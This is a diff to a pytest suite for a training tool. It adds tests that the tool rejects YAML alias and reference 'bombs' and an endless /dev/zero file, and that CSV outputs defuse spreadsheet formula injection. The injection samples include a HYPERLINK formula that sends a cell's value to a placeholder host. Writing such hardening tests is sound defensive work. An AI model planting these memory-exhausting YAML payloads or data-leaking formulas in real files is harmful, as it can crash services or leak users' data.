@@ -4,10 +4,12 @@ The loop over every file of a competition, a run and a ledger prints what each f
 """
 
 import contextlib
+import csv
 import io
 import json
 import os
 import re
+import resource
 import shutil
 import subprocess
 import sys
@@ -17,6 +19,7 @@ from collections.abc import Callable
 from pathlib import Path
 
 import numpy as np
+import pandas as pd
 import pytest
 import torch
 from safetensors import safe_open
@@ -163,7 +166,11 @@ def card_of(home: Path) -> Path:
 
 
 @pytest.mark.parametrize(
-    "content", [b"", b"title: [", b"\xff\xfet\0i\0", b"- a\n", b"\0\0", b"title: Caf\xe9\n", b"[" * 5000]
+    "content",
+    [
+        *(b"", b"title: [", b"\xff\xfet\0i\0", b"- a\n", b"\0\0", b"title: Caf\xe9\n"),
+        *(b"[" * 5000, b"a: " + b"[" * 5000 + b"]" * 5000, b"a: {" * 3000 + b"}" * 3000, b"a: &a [*a]\n"),
+    ],
 )
 @pytest.mark.parametrize("which", ["card.yaml", "tiny.yaml"])
 def test_a_card_or_configuration_that_is_none_is_told_in_one_line(tiny, capsys, content, which):
@@ -173,6 +180,51 @@ def test_a_card_or_configuration_that_is_none_is_told_in_one_line(tiny, capsys, 
     assert code == 2
     assert which in answer["error"]["message"]
     assert len(answer["error"]["message"].splitlines()) == 1
+
+
+def nested(first: str, line: Callable[[int], str], count: int = 12) -> str:
+    return f"a0: {first}\n" + "".join(f"a{n}: {line(n)}\n" for n in range(1, count))
+
+
+BOMBS = {
+    "aliases": nested("&a0 [0, 0]", lambda n: f"&a{n} [{', '.join([f'*a{n - 1}'] * 9)}]"),
+    "merges": nested("&a0 {k: 0}", lambda n: f"&a{n} {{x{n}: *a{n - 1}, y{n}: *a{n - 1}, <<: *a{n - 1}}}", 40),
+    "references": nested("xxxxxxxx", lambda n: f"'{9 * f'${{a{n - 1}}}'}'"),
+    "references to lists": nested("[0, 0]", lambda n: "['{0}', '{0}', '{0}', '{0}']".format(f"${{a{n - 1}}}"), 20),
+    "a large file": "title: x\n" + "# nothing\n" * 300_000,
+    "endless": None,
+}
+
+
+@pytest.mark.parametrize("kind", BOMBS)
+@pytest.mark.parametrize("which", ["card.yaml", "tiny.yaml"])
+def test_a_few_lines_that_come_to_gigabytes_are_refused(tiny, capsys, kind, which):
+    file = card_of(tiny) if which == "card.yaml" else tiny / "configs" / "tiny.yaml"
+    if kind == "endless":
+        file.unlink()
+        file.symlink_to("/dev/zero")
+    else:
+        file.write_text(BOMBS[kind])
+    limit = resource.getrlimit(resource.RLIMIT_AS)
+    held = int(Path("/proc/self/statm").read_text().split()[0]) * resource.getpagesize()
+    resource.setrlimit(resource.RLIMIT_AS, (held + 500_000_000, limit[1]))
+    try:
+        code, answer = told(train, "config=tiny", capsys)
+    finally:
+        resource.setrlimit(resource.RLIMIT_AS, limit)
+    no_file = "usage" if which == "card.yaml" else "unknown-config"
+    assert (code, answer["error"]["code"]) == (2, no_file if kind == "endless" else "too-large")
+    assert which in answer["error"]["message"] and len(answer["error"]["message"].splitlines()) == 1
+
+
+def test_what_repeats_a_little_is_read(tmp_path):
+    file = tmp_path / "x.yaml"
+    file.write_text("a: &a {x: 1}\nb: {<<: *a, y: '${a.x}'}\nc: [*a, '${b}', 'is ${c.0.x}']\n")
+    assert read_settings(file) == {"a": {"x": 1}, "b": {"x": 1, "y": 1}, "c": [{"x": 1}, {"x": 1, "y": 1}, "is 1"]}
+    for wrong in ("a: ${b}\n", "a: ${a}\n", "a: '${b} ${b.c}'\nb: 1\n"):
+        file.write_text(wrong)
+        with raises("damaged-file"):
+            read_settings(file)
 
 
 @pytest.mark.parametrize(
@@ -267,6 +319,37 @@ def test_names_that_steer_a_terminal_are_written_out(tiny, capsys):
     assert train(["config=\x1b[2J"]) == 2
     told = "".join([*told, *capsys.readouterr()])
     assert "\x1b" not in told and "\u202e" not in told
+
+
+def test_cells_that_a_spreadsheet_would_compute_are_defused_but_in_the_submission(tiny, capsys):
+    """Of tables for people: names and ids of a stranger's data. Numbers stay numbers, and an id is found again."""
+    data = tiny / "competition" / "tiny" / "data"
+    formula = '=HYPERLINK("http://x/"&A1)'
+    for name, keys in (("train", "image_id"), ("sample_submission", "image_id")):
+        table = pd.read_csv(data / f"{name}.csv", dtype=str)
+        for old in table[keys]:
+            image = data / ("train" if name == "train" else "test") / f"{old}.png"
+            image.rename(image.with_name(f"=1+{old}.png"))
+        table[keys] = "=1+" + table[keys]
+        table["colour"] = table["colour"].replace({"blue": formula, "green": "-3"})
+        table.to_csv(data / f"{name}.csv", index=False)
+    card = card_of(tiny)
+    card.write_text(card.read_text().replace("test_labels: answers/test.csv\n", ""))
+    assert train(["config=tiny", "fold=0", "train.epochs=1"]) == 0
+    assert predict(["config=tiny", "train.epochs=1"]) == 0 and report(["config=tiny", "train.epochs=1"]) == 0
+    found = set()
+    for file in tiny.glob("runs/tiny/tiny*/**/*.csv"):
+        with file.open(newline="") as lines:
+            found |= {cell for row in csv.reader(lines) for cell in row if cell}
+    formulas = {cell for cell in found if cell[0] in "=+-@\t\r"}
+    assert {f"'{formula}", "-3"} <= found and any(cell.startswith("'=1+") for cell in found)
+    for cell in formulas:
+        float(cell)
+    (submission,) = tiny.glob("submissions/tiny/*epochs=1.csv")
+    assert set(pd.read_csv(submission, dtype=str)["image_id"]) == set(table["image_id"])
+    (tiny / "doubted.csv").write_text("id\n'=1+0001\n=1+0002\n")
+    assert train(["config=tiny", "fold=0", "train.epochs=1", "run=less", "data.ignore=doubted.csv"]) == 0
+    assert told(train, "config=tiny fold=0 run=no data.ignore=no.csv", capsys)[0] == 2
 
 
 # Archives
